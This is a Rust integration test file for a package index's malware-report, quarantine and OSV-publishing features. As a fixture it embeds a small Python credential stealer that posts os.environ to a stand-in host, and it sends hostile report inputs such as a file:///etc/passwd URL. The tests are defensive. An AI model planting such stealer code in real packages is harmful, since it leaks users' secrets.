//! Reports and picket's own malicious-package records (issue 16, parts 2 and 3), end to end
//! against real `picket serve` processes: a project uploaded with twine is reported by a trusted
//! reporter and quarantined at once, an admin confirms, the `MAL-` record is answered by the OSV
//! API and published in `/osv/all.zip`, a second index imports it with `picket db update --url`
//! and `picket scan` there calls the project malicious; the admin reverts and the record is
//! withdrawn downstream on the next update. Then hostile reports, each a clear 4xx.

mod common;

use std::fmt::Write as _;
use std::path::Path;
use std::time::{Duration, Instant};

use common::registry::{Registry, both, twine};
use common::{picket, picket_with_stdin, text, venv};
use serde_json::{Value, json};

fn admin(registry: &Registry, args: &[&str]) -> Value {
    let out = common::admin_json(&registry.data, args);
    assert!(out.status.success(), "{args:?}: {}", both(&out));
    serde_json::from_slice(&out.stdout).unwrap_or(Value::Null)
}

const STEALER: &[u8] = b"import os, json, urllib.request\n\
def _send():\n    data = json.dumps(dict(os.environ)).encode()\n    \
urllib.request.urlopen('http://192.0.2.10/c', data=data, timeout=3)\n\
def helper(x):\n    return x * 2\n";

fn report(registry: &Registry, project: &str, token: &str, body: &Value) -> (u16, Value) {
    registry.post_json(
        &format!("/api/v1/projects/{project}/reports"),
        Some(token),
        body,
    )
}

fn query(registry: &Registry, name: &str, version: &str) -> Value {
    registry
        .post_json(
            "/v1/query",
            None,
            &json!({"package": {"name": name, "ecosystem": "PyPI"}, "version": version}),
        )
        .1
}

/// The mail in the outbox sent to `to` whose subject contains `subject`, waiting up to 10 s.
fn mail_to(registry: &Registry, to: &str, subject: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let found = std::fs::read_dir(registry.data.join("outbox"))
            .into_iter()
            .flatten()
            .filter_map(Result::ok)
            .filter_map(|e| std::fs::read_to_string(e.path()).ok())
            .find(|m| m.contains(&format!("To: {to}\r\n")) && m.contains(subject));
        if let Some(mail) = found {
            return mail;
        }
        assert!(
            Instant::now() < deadline,
            "no mail to {to} about `{subject}`"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// Whether `picket scan --offline` of a requirements file naming `quartzfeather==1.0`, with
/// `data`, calls it malicious.
fn scan_finds_malicious(data: &Path, work: &Path) -> bool {
    scan_with(data, work, &["--offline"])
}

/// [`scan_finds_malicious`] with other flags (`--osv-url URL`: an OSV API, not the data).
fn scan_with(data: &Path, work: &Path, flags: &[&str]) -> bool {
    let requirements = work.join("requirements.txt");
    std::fs::write(&requirements, "quartzfeather==1.0\n").unwrap();
    let mut args = vec!["--format", "json", "scan"];
    args.extend_from_slice(flags);
    args.push(requirements.to_str().unwrap());
    let out = picket(data, &args);
    let doc: Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", both(&out)));
    let package = common::package(&doc, "quartzfeather");
    package["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["id"] == "known-malicious")
}

/// The OSV records of picket-osv's fixtures as an `all.zip` on a loopback server; its URL.
fn public_feed() -> String {
    use std::io::Write as _;
    let fixtures =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("crates/picket-osv/tests/fixtures/osv");
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for entry in std::fs::read_dir(&fixtures).unwrap() {
        let path = entry.unwrap().path();
        zip.start_file(
            path.file_name().unwrap().to_str().unwrap(),
            zip::write::SimpleFileOptions::default(),
        )
        .unwrap();
        zip.write_all(&std::fs::read(&path).unwrap()).unwrap();
    }
    let body = zip.finish().unwrap().into_inner();
    let base = common::canned_server(vec![(
        "/PyPI/all.zip".to_owned(),
        common::Canned {
            status: 200,
            content_type: "application/zip",
            body,
        },
    )]);
    format!("{}PyPI/all.zip", base.trim_end_matches("simple/"))
}

/// pip-audit asking `registry`'s OSV API about `quartzfeather==1.0`: the ids it reports.
fn pip_audit_ids(venv: &Path, registry: &Registry, work: &Path) -> Vec<String> {
    let requirements = work.join("audit-requirements.txt");
    std::fs::write(&requirements, "quartzfeather==1.0\n").unwrap();
    let out = std::process::Command::new(venv.join("bin/pip-audit"))
        .arg("-r")
        .arg(&requirements)
        .args(["--disable-pip", "--no-deps", "-s", "osv", "--osv-url"])
        .arg(format!("{}/v1/query", registry.base))
        .args(["-f", "json", "--progress-spinner", "off", "--cache-dir"])
        .arg(work.join("pip-audit-cache"))
        .output()
        .unwrap();
    let doc: Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", both(&out)));
    doc["dependencies"][0]["vulns"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["id"].as_str().unwrap().to_owned())
        .collect()
}

fn db_update(data: &Path, urls: &[&str]) -> Value {
    let mut args = vec!["--format", "json", "db", "update"];
    for url in urls {
        args.extend(["--url", url]);
    }
    args.extend(["--data-dir", data.to_str().unwrap()]);
    let out = picket(data, &args);
    assert!(out.status.success(), "{}", both(&out));
    serde_json::from_slice(&out.stdout).unwrap()
}

#[test]
fn issue_16_reported_project_is_quarantined_confirmed_published_imported_and_withdrawn() {
    let Some(venv) = venv() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("upstream");
    let registry = Registry::start(&data, &[]);

    // The attacker publishes with twine; the project is installable.
    let (attacker, _) = registry.onboard_with("mallory", "mallory@attacker.example");
    let path = common::code_wheel(tmp.path(), "quartzfeather", STEALER);
    let out = twine(&venv, &registry, &attacker, &[&path]);
    assert!(out.status.success(), "{}", both(&out));
    let (status, _, _) = registry.get("/pypi/quartzfeather/json", &[]);
    assert_eq!(status, 200);

    // A researcher the admins trust reports it.
    let out = picket_with_stdin(
        tmp.path(),
        &[
            "admin",
            "--data-dir",
            data.to_str().unwrap(),
            "create-user",
            "root",
            "--email",
            "root@index.example",
            "--admin",
            "--password-stdin",
        ],
        "correct horse battery\n",
    );
    assert!(out.status.success(), "{}", both(&out));
    let (researcher, _) = registry.onboard_with("rita", "rita@research.example");
    admin(
        &registry,
        &[
            "reporter-trust",
            "rita",
            "trusted",
            "--reason",
            "known researcher",
        ],
    );
    let (status, filed) = report(
        &registry,
        "QuartzFeather",
        &researcher,
        &json!({"kind": "malware", "versions": ["1.0"],
                "evidence": "quartzfeather/__init__.py posts os.environ to 192.0.2.10 on import",
                "evidence_url": "https://research.example/analysis/quartzfeather"}),
    );
    assert_eq!(status, 201, "{filed}");
    assert_eq!(filed["quarantined"], true, "{filed}");
    assert!(
        filed["rule"].as_str().unwrap().contains("trusted reporter"),
        "{filed}"
    );
    // Quarantined at once: gone from the JSON API and the simple index, but no record yet.
    let (status, _, _) = registry.get("/pypi/quartzfeather/json", &[]);
    assert_eq!(status, 404);
    assert_eq!(query(&registry, "quartzfeather", "1.0"), json!({}));
    let mail = mail_to(
        &registry,
        "mallory@attacker.example",
        "quarantined after reports",
    );
    assert!(!mail.contains("rita"), "owners never learn who reported");
    let mail = mail_to(&registry, "root@index.example", "on quartzfeather");
    assert!(
        mail.contains("rita reported quartzfeather as malware"),
        "{mail}"
    );

    // The admins' queue, and the confirmation.
    let list = admin(&registry, &["reports", "list", "--status", "open"]);
    assert_eq!(list[0]["project"], "quartzfeather", "{list}");
    assert!(list[0]["quarantined_at"].is_i64());
    let table = picket(
        &data,
        &[
            "admin",
            "--data-dir",
            data.to_str().unwrap(),
            "reports",
            "list",
        ],
    );
    let table = text(&table.stdout);
    assert!(
        table.lines().nth(1).is_some_and(|l| l.contains("open")
            && l.contains("malware")
            && l.contains("quartzfeather")
            && l.contains("rita")
            && l.contains("[quarantined] quartzfeather/__init__.py posts")),
        "{table}"
    );
    let id = list[0]["id"].to_string();
    let confirmed = admin(
        &registry,
        &[
            "reports",
            "confirm",
            &id,
            "--reason",
            "exfiltrates the environment",
        ],
    );
    let record_id = confirmed["record"].as_str().unwrap().to_owned();
    assert!(record_id.starts_with("MAL-PICKET-"), "{confirmed}");
    let kinds: Vec<&str> = confirmed["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["osv.publish", "report.confirm"], "{confirmed}");
    mail_to(
        &registry,
        "mallory@attacker.example",
        "removed as malicious",
    );

    // The OSV API answers it, beside nothing imported.
    let answer = query(&registry, "quartzfeather", "1.0");
    let vuln = &answer["vulns"][0];
    assert_eq!(vuln["id"], record_id.as_str(), "{answer}");
    let details = vuln["details"].as_str().unwrap();
    assert!(details.contains("posts os.environ"), "{details}");
    assert!(
        !details.contains("rita"),
        "the record doesn't name the reporter"
    );
    assert_eq!(vuln["database_specific"]["origins"][0]["kind"], "report");
    assert_eq!(vuln["affected"][0]["versions"], json!(["1.0"]));
    let (status, _, by_id) = registry.get(&format!("/v1/vulns/{record_id}"), &[]);
    assert_eq!(status, 200);
    assert_eq!(
        serde_json::from_slice::<Value>(&by_id).unwrap()["id"],
        record_id.as_str()
    );

    // The feed, with an ETag.
    let (status, headers, zip) = registry.get("/osv/all.zip", &[]);
    assert_eq!(status, 200);
    let etag = headers["etag"].to_str().unwrap().to_owned();
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(zip)).unwrap();
    assert_eq!(archive.len(), 1);
    assert_eq!(
        archive.by_index(0).unwrap().name().unwrap(),
        format!("{record_id}.json")
    );
    let (status, _, _) = registry.get("/osv/all.zip", &[("If-None-Match", &etag)]);
    assert_eq!(status, 304);

    // A second index subscribes: its `db update --url` imports the record, its OSV API answers
    // it, and `picket scan` with its data calls the project malicious.
    let downstream_data = tmp.path().join("downstream");
    let downstream = Registry::start(&downstream_data, &[]);
    let feed = format!("{}/osv/all.zip", registry.base);
    let first = db_update(&downstream_data, &[&feed]);
    assert_eq!(
        (first["updated"].as_bool(), first["records"].as_u64()),
        (Some(true), Some(1)),
        "{first}"
    );
    assert_eq!(
        query(&downstream, "quartzfeather", "1.0")["vulns"][0]["id"],
        record_id.as_str()
    );
    assert!(scan_finds_malicious(&downstream_data, tmp.path()));
    assert_eq!(db_update(&downstream_data, &[&feed])["updated"], false);
    // `picket scan --osv-url` asking the first index's OSV API instead of a database.
    let empty = tmp.path().join("no-database");
    std::fs::create_dir_all(&empty).unwrap();
    let api = format!("{}/v1/query", registry.base);
    assert!(scan_with(&empty, tmp.path(), &["--osv-url", &api]));
    // pip-audit, asking either index's OSV API, reports the record.
    assert_eq!(
        pip_audit_ids(&venv, &registry, tmp.path()),
        [record_id.as_str()]
    );
    assert_eq!(
        pip_audit_ids(&venv, &downstream, tmp.path()),
        [record_id.as_str()]
    );
    // Subscribed to the public records too: both sources in one database.
    let public = public_feed();
    let merged = db_update(&downstream_data, &[&public, &feed]);
    assert_eq!(merged["records"], 7, "{merged}");
    assert!(scan_finds_malicious(&downstream_data, tmp.path()));
    // One source failing leaves the database as it was.
    let dead = format!("http://127.0.0.1:{}/osv/all.zip", common::free_port());
    let out = picket(
        &downstream_data,
        &[
            "db",
            "update",
            "--url",
            &public,
            "--url",
            &dead,
            "--data-dir",
            downstream_data.to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(2), "{}", both(&out));
    assert!(text(&out.stderr).contains(&dead), "{}", both(&out));
    assert_eq!(
        picket_osv::Database::load(&downstream_data).unwrap().len(),
        7
    );

    // The admin reverts: the project is back, the record withdrawn upstream…
    let reverted = admin(
        &registry,
        &["reports", "revert", &id, "--reason", "the host was ours"],
    );
    assert_eq!(reverted["record"], Value::Null);
    let (status, _, _) = registry.get("/pypi/quartzfeather/json", &[]);
    assert_eq!(status, 200);
    assert_eq!(query(&registry, "quartzfeather", "1.0"), json!({}));
    let (_, _, by_id) = registry.get(&format!("/v1/vulns/{record_id}"), &[]);
    assert!(serde_json::from_slice::<Value>(&by_id).unwrap()["withdrawn"].is_string());
    let (status, headers, _) = registry.get("/osv/all.zip", &[("If-None-Match", &etag)]);
    assert_eq!(status, 200, "the feed changed");
    assert_ne!(headers["etag"].to_str().unwrap(), etag);
    mail_to(&registry, "mallory@attacker.example", "is restored");

    // … and downstream on the next update.
    let again = db_update(&downstream_data, &[&public, &feed]);
    assert_eq!(
        (again["records"].as_u64(), again["withdrawn"].as_u64()),
        (Some(6), Some(2)),
        "the fixtures' own withdrawn record and ours: {again}"
    );
    assert_eq!(query(&downstream, "quartzfeather", "1.0"), json!({}));
    assert!(!scan_finds_malicious(&downstream_data, tmp.path()));

    // Every step is in the journal.
    let out = picket(
        &data,
        &[
            "admin",
            "--data-dir",
            data.to_str().unwrap(),
            "export-events",
        ],
    );
    let kinds: Vec<String> = text(&out.stdout)
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["kind"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .filter(|k| k.starts_with("report.") || k.starts_with("osv.") || k.contains("reporter"))
        .collect();
    assert_eq!(
        kinds,
        [
            "account.reporter-trust",
            "report.create",
            "report.quarantine",
            "osv.publish",
            "report.confirm",
            "osv.withdraw",
            "report.revert"
        ]
    );
}

/// A POST of raw `body` bytes to the reports route with `token`; status and JSON answer.
fn post_raw(registry: &Registry, project: &str, token: &str, body: &[u8]) -> (u16, Value) {
    let mut resp = Registry::agent()
        .post(&format!(
            "{}/api/v1/projects/{project}/reports",
            registry.base
        ))
        .header("Authorization", &format!("Bearer {token}"))
        .header("Content-Type", "application/json")
        .send(body)
        .unwrap();
    let status = resp.status().as_u16();
    let text = resp.body_mut().read_to_string().unwrap_or_default();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

fn says(answer: &Value, text: &str) -> bool {
    answer["error"].as_str().is_some_and(|e| e.contains(text))
}

#[test]
fn issue_16_corroborated_reports_quarantine_a_rejection_lifts_it_and_hostile_reports_get_a_clear_4xx()
 {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    // Only the corroboration rule: no project counts as young.
    let registry = Registry::start(
        &data,
        &[
            ("PICKET_SERVE_REPORT_QUARANTINE_YOUNG_HOURS", "0"),
            ("PICKET_SERVE_RATE_REPORT_USER", "3 per hour"),
        ],
    );
    let (owner, _) = registry.onboard_with("olga", "olga@owner.example");
    let module: &[u8] = b"def greet(name):\n    return 'hello ' + name\n";
    let (status, answer) = registry.upload_wheel(
        &owner,
        "ambertrail",
        "1.0",
        &[("ambertrail/__init__.py", module)],
    );
    assert_eq!(status, 200, "{answer}");
    let (alice, alice_secret) = registry.onboard_with("alice", "alice@one.example");
    let (alice2, _) = registry.onboard_with("alice2", "alice2@one.example");
    let (trent, _) = registry.onboard_with("trent", "trent@two.example");
    admin(
        &registry,
        &["reporter-trust", "trent", "trusted", "--reason", "CERT"],
    );
    admin(
        &registry,
        &["reporter-trust", "alice2", "trusted", "--reason", "test"],
    );
    let malware = json!({"kind": "malware", "evidence": "opens a reverse shell on import"});

    // One untrusted reporter: queued, nothing held.
    let (status, first) = report(&registry, "ambertrail", &alice, &malware);
    assert_eq!(
        (status, &first["quarantined"]),
        (201, &json!(false)),
        "{first}"
    );
    // A trusted reporter of the same e-mail domain is not independent of her.
    let (status, same) = report(&registry, "ambertrail", &alice2, &malware);
    assert_eq!(
        (status, &same["quarantined"]),
        (201, &json!(false)),
        "{same}"
    );
    // A trusted reporter of another domain: two independent reporters, one trusted.
    let (status, second) = report(&registry, "ambertrail", &trent, &malware);
    assert_eq!(
        (status, &second["quarantined"]),
        (201, &json!(true)),
        "{second}"
    );
    assert!(second["rule"].as_str().unwrap().contains("independent"));
    let (status, _, _) = registry.get("/pypi/ambertrail/json", &[]);
    assert_eq!(status, 404);
    // One open report per reporter and project.
    let (status, answer) = report(&registry, "ambertrail", &alice2, &malware);
    assert_eq!(status, 409);
    assert!(says(&answer, "already reported"), "{answer}");

    // Rejections: the quarantine stands while a report that caused it is open, and is lifted
    // with the last one; the reporter is told.
    for id in [&second["id"], &first["id"]] {
        let rejected = admin(
            &registry,
            &[
                "reports",
                "reject",
                &id.to_string(),
                "--reason",
                "a test fixture",
            ],
        );
        assert_eq!(
            rejected["changes"].as_array().unwrap().len(),
            1,
            "{rejected}"
        );
    }
    let rejected = admin(
        &registry,
        &[
            "reports",
            "reject",
            &same["id"].to_string(),
            "--reason",
            "a test fixture",
        ],
    );
    let kinds: Vec<&str> = rejected["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["project.release", "report.reject"], "{rejected}");
    let (status, _, _) = registry.get("/pypi/ambertrail/json", &[]);
    assert_eq!(status, 200);
    assert!(mail_to(&registry, "trent@two.example", "your report").contains("a test fixture"));
    // A decided report can't be decided again; a revert needs a confirmation.
    let out = picket_with_stdin(
        tmp.path(),
        &[
            "admin",
            "--data-dir",
            data.to_str().unwrap(),
            "reports",
            "revert",
            &first["id"].to_string(),
            "--reason",
            "x",
        ],
        "",
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("report 1 is rejected; only a confirmed report"),
        "{}",
        both(&out)
    );

    // Hostile input, each a 4xx that says what is wrong.
    let huge = format!(
        r#"{{"kind": "malware", "evidence": "{}"}}"#,
        "A".repeat(100_000)
    );
    let (status, answer) = post_raw(&registry, "ambertrail", &alice, huge.as_bytes());
    assert_eq!(status, 413, "{answer}");
    assert!(says(&answer, "at most 65536 bytes"), "{answer}");
    let declared = format!(
        "POST /api/v1/projects/ambertrail/reports HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {alice}\r\nContent-Type: application/json\r\nContent-Length: 10485760\r\n\r\n"
    );
    assert_eq!(common::registry::raw_status(&registry.base, &declared), 413);
    for (body, status, text) in [
        (&b"{\"kind\": \"malware\", \"evid"[..], 400, "Expected {"),
        (&b"[1, 2, 3]"[..], 400, "Expected {"),
        (&b"\xff\xfe"[..], 400, "Expected {"),
        (
            &br#"{"kind": "virus", "evidence": "x"}"#[..],
            400,
            "not a report kind",
        ),
        (
            &br#"{"kind": "malware", "evidence": "x", "versions": ["9.9"]}"#[..],
            404,
            "has no release `9.9`",
        ),
        (
            &br#"{"kind": "malware", "evidence": "x", "versions": ["1.0 or so"]}"#[..],
            400,
            "not a PEP 440 version",
        ),
        (
            &br#"{"kind": "malware", "evidence": "x", "evidence_url": "file:///etc/passwd"}"#[..],
            400,
            "http(s) URL",
        ),
        (
            &br#"{"kind": "malware", "evidence": "x", "admin": true}"#[..],
            400,
            "unknown field `admin`",
        ),
    ] {
        let (got, answer) = post_raw(&registry, "ambertrail", &alice, body);
        assert_eq!(got, status, "{answer}");
        assert!(says(&answer, text), "{text}: {answer}");
    }
    let (status, answer) = report(&registry, "no-such-project", &alice, &malware);
    assert_eq!(status, 404);
    assert!(
        says(&answer, "No project named `no-such-project`"),
        "{answer}"
    );
    let (status, answer) = report(&registry, "ambertrail", &owner, &malware);
    assert_eq!(status, 400);
    assert!(says(&answer, "you own `ambertrail`"), "{answer}");
    let (status, _) = registry.post_json("/api/v1/projects/ambertrail/reports", None, &malware);
    assert_eq!(status, 401);
    let session = registry.login("alice", Some(&common::registry::totp_now(&alice_secret)));
    let (status, answer) = report(&registry, "ambertrail", &session, &malware);
    assert_eq!(status, 403);
    assert!(says(&answer, "with an API token"), "{answer}");
    admin(
        &registry,
        &["reporter-trust", "alice", "blocked", "--reason", "abuse"],
    );
    let (status, answer) = report(&registry, "ambertrail", &alice, &malware);
    assert_eq!(status, 403);
    assert!(says(&answer, "not accepted"), "{answer}");

    // Over the per-reporter limit (3 an hour; trent filed one): a 429 naming it.
    for project in ["p-one", "p-two", "p-three"] {
        let (status, answer) = registry.upload_wheel(
            &owner,
            project,
            "1.0",
            &[(
                &format!("{}/__init__.py", project.replace('-', "_")),
                module,
            )],
        );
        assert_eq!(status, 200, "{answer}");
    }
    for project in ["p-one", "p-two"] {
        assert_eq!(report(&registry, project, &trent, &malware).0, 201);
    }
    let (status, answer) = report(&registry, "p-three", &trent, &malware);
    assert_eq!(status, 429, "{answer}");
    assert!(says(&answer, "report-user: at most 3 per hour"), "{answer}");
}

/// The staff accounts of the watched cohort in `campaign-watch.json`, or of the first alerted
/// campaign in `picket admin campaigns` (`alert`), once at least 8 of them are there.
fn cohort_of_staff(registry: &Registry, alert: bool) -> Option<Value> {
    let cohorts: Vec<Value> = if alert {
        let list = admin(registry, &["campaigns"]);
        let ids: Vec<String> = list
            .as_array()?
            .iter()
            .filter_map(|c| c["id"].as_str().map(str::to_owned))
            .collect();
        ids.iter()
            .map(|id| admin(registry, &["campaign", "show", id])["report"].clone())
            .collect()
    } else {
        let text = std::fs::read_to_string(registry.data.join("campaign-watch.json")).ok()?;
        let watch: Value = serde_json::from_str(&text).ok()?;
        watch["watch"]
            .as_array()?
            .iter()
            .map(|c| c["report"].clone())
            .collect()
    };
    cohorts.into_iter().find(|c| {
        c["accounts"].as_array().is_some_and(|a| {
            a.iter()
                .filter(|a| a.as_str().is_some_and(|a| a.starts_with("staff")))
                .count()
                >= 8
        })
    })
}

#[test]
fn issue_16_reports_across_a_watched_cohort_make_the_live_detector_alert_it() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let registry = Registry::start(
        &data,
        &[
            ("PICKET_SERVE_VELOCITY_FLOOR", "0"),
            ("PICKET_SERVE_RATE_REGISTER_IP", "off"),
            ("PICKET_SERVE_RATE_LOGIN_IP", "off"),
            ("PICKET_SERVE_CAMPAIGN_WARMUP_HOURS", "0"),
        ],
    );
    // A company onboarding ten staff by script on its own domain, each publishing real code:
    // coordination without evidence of abuse, so watched and never acted on.
    for i in 0..10 {
        registry.register_verified(&format!("staff{i}"), &format!("staff{i}@corp.example"));
    }
    let tokens: Vec<String> = (0..10)
        .map(|i| registry.set_up_publishing(&format!("staff{i}")).0)
        .collect();
    for (i, token) in tokens.iter().enumerate() {
        let mut code = String::new();
        for k in 0..30 {
            let _ = writeln!(code, "def step_{k}(x):\n    return x + {}", k * 10 + i);
        }
        let (status, answer) = registry.upload_wheel(
            token,
            &format!("corp-tool-{i}"),
            "1.0",
            &[(&format!("corp_tool_{i}/__init__.py"), code.as_bytes())],
        );
        assert_eq!(status, 200, "{answer}");
    }
    let deadline = Instant::now() + Duration::from_secs(20);
    let watched = loop {
        if let Some(c) = cohort_of_staff(&registry, false) {
            break c;
        }
        assert!(Instant::now() < deadline, "the onboarding was not watched");
        std::thread::sleep(Duration::from_millis(250));
    };
    assert!(
        watched["reasons"]
            .to_string()
            .contains("no evidence of abuse"),
        "{watched}"
    );
    assert!(cohort_of_staff(&registry, true).is_none());

    // Malware reports on two of its projects, from two independent reporters, one of them
    // trusted: the detector now has evidence of abuse and alerts the cohort.
    let (trent, _) = registry.onboard_with("trent", "trent@cert.example");
    let (alice, _) = registry.onboard_with("alice", "alice@lab.example");
    admin(
        &registry,
        &["reporter-trust", "trent", "trusted", "--reason", "CERT"],
    );
    let malware = json!({"kind": "malware", "evidence": "sends the environment to a remote host"});
    for (project, token) in [("corp-tool-3", &trent), ("corp-tool-7", &alice)] {
        let (status, answer) = report(&registry, project, token, &malware);
        assert_eq!(status, 201, "{answer}");
    }
    let deadline = Instant::now() + Duration::from_secs(20);
    let alerted = loop {
        if let Some(c) = cohort_of_staff(&registry, true) {
            break c;
        }
        assert!(
            Instant::now() < deadline,
            "the reported cohort was not alerted"
        );
        std::thread::sleep(Duration::from_millis(250));
    };
    let reasons = alerted["reasons"].to_string();
    assert!(
        reasons.contains("reports (malware) against projects of 2 of its accounts, from 2 independent reporters, one trusted"),
        "{alerted}"
    );
    assert!(
        alerted["signals"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s["name"] == "reports"),
        "{alerted}"
    );
}
